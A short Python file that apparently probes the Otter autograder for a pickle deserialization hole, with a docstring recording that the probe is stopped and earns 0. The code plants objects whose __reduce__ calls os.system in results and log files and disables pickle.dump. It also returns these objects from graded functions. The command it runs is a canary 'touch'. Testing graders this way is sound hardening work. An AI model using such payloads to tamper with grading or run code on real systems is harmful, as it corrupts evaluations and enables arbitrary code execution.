"""Puts objects whose __reduce__ runs code wherever Otter unpickles: results, log, and every answer.

stopped by: no pickle
unfenced: held
earns: 0
verdict: undecided
"""

import os
import pickle


class Payload:
    def __reduce__(self):
        return os.system, (f"touch {BAIT}/open/pickled",)


for name in ("results.pkl", ".OTTER_LOG", "results.json", "../results/results.pkl"):
    try:
        with open(name, "wb") as file:
            pickle.dump(Payload(), file)
    except OSError:
        pass
pickle.dump = lambda *_: None
pickle.dumps = lambda *_: b"\x80\x04."


def cube(n):
    return Payload()


def normalise(values):
    import numpy as np

    return np.array([Payload()], dtype=object)


def build():
    return pickle.dumps(Payload())
